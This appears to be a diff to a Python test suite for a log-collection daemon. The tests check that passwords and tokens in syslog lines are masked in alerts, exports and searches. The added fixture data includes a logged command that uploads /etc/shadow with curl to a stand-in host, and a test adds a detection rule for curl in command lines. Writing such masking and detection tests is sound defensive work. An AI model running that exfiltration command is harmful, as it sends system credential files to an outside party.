@@ -11,7 +11,7 @@ import pytest
 from yushi_daemon import BIN, Daemon, yushi
 
 ME = pwd.getpwuid(os.getuid()).pw_name
-SECRETS = ["hunter2", "s3cr3t!", "abc123tok", "Tr0ub4dor", "0a1b2c3d4e"]
+SECRETS = ["hunter2", "s3cr3t!", "abc123tok", "Tr0ub4dor", "0a1b2c3d4e", "leakone", "leaktwo"]
 LINES = [
     "<86>1 2026-11-01T08:00:00Z web-01 sudo 811 - -       li : TTY=pts/0 ; PWD=/home/li ; USER=root ; COMMAND=/usr/bin/mysql -u root -phunter2 shop",
     '<13>1 2026-11-01T08:00:01Z web-01 app - - - {"user":"li","password":"s3cr3t!","nested":{"authToken":"abc123tok"},"args":["mysql","-phunter2"]}',
@@ -20,6 +20,9 @@ LINES = [
     "<13>1 2026-11-01T08:00:04Z web-01 shell - - - curl -u li:hunter2 https://li:s3cr3t!@h.example/a?X-Amz-Signature=0a1b2c3d4e",
     "<13>1 2026-11-01T08:00:05Z web-01 shell - - - 修改成功 密码：Tr0ub4dor".encode("utf-8"),
     "<13>1 2026-11-01T08:00:06Z web-01 shell - - - nothing to hide",
+    "<86>1 2026-11-01T08:00:07Z web-01 sudo 811 - -       li : TTY=pts/0 ; PWD=/home/li ; USER=root ; COMMAND=/usr/bin/sshpass -p leakone ssh a -p 22",
+    "<86>1 2026-11-01T08:00:08Z web-01 sudo 811 - -       li : TTY=pts/0 ; PWD=/home/li ; USER=root ; "
+    "COMMAND=/bin/sh -c curl -u a:leakone -T /etc/shadow https://x.example/; curl -u b:leaktwo",
 ]
 
 
@@ -79,6 +82,29 @@ def test_hist_follow_unknown_and_a_store_without_a_daemon(daemon):
                               stdout=subprocess.PIPE, text=True)
     assert "[masked]" in followed.stdout and holds(followed.stdout) == []
     assert holds(daemon.http("/api/v1/search?query=*").body.decode()) == []
+
+
+def test_alerts_hide_them_in_both_languages_and_say_the_rest(tmp_path):
+    rules = tmp_path / "rules"
+    rules.mkdir()
+    (rules / "curl.yml").write_text("title: curl\nid: curl\nlogsource: {product: yushi}\n"
+                                    "detection: {s: {process.command_line|contains: curl}, condition: s}\n"
+                                    "yushi: {reason: 'ran (%{process.command_line}); once', reason_zh: '运行（%{process.command_line}）仅一次'}\n")
+    with Daemon(tmp_path / "d", f"detect: {{learning: 0s, rules: [{rules}]}}\n") as daemon:
+        daemon.send_tcp(LINES)
+        daemon.wait_records(len(LINES))
+
+        def told(*args):
+            return daemon.yushi("alerts", *args).text
+        until = time.monotonic() + 20
+        while "ran (" not in told("list", "-o", "json") and time.monotonic() < until:
+            time.sleep(0.2)
+        (alert,) = [alert["yushi"]["alert"] for alert in map(json.loads, told("list", "--rule", "curl", "-o", "json").splitlines())]
+        command = "/bin/sh -c curl -u a:[masked] -T /etc/shadow https://x.example/; curl -u b:[masked]"
+        assert alert["reason"] == f"ran ({command}); once" and alert["reason_zh"] == f"运行（{command}）仅一次"
+        for text in (told("list", "-o", "table"), told("list", "-o", "table", "--lang", "zh"), told("export", "-o", "csv"),
+                     daemon.yushi("who", "li", "--since", "3650d").text, daemon.yushi("search", "*", "--tenant", "_audit", "-o", "raw").text):
+            assert holds(text) == [], text
 
 
 def test_filters_see_what_is_stored(daemon):
